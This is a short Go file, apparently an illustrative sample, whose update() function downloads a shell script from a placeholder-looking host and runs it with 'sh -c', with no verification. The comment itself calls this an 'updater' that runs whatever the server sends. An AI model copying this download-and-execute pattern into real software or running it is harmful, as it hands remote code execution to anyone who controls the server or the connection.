// An "updater" that runs whatever the server sends.
package agent

import (
	"io"
	"net/http"
	"os/exec"
)

func update(client *http.Client) error {
	resp, err := client.Get("https://updates.example-agent.net/latest.sh")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	return exec.Command("sh", "-c", string(b)).Run()
}
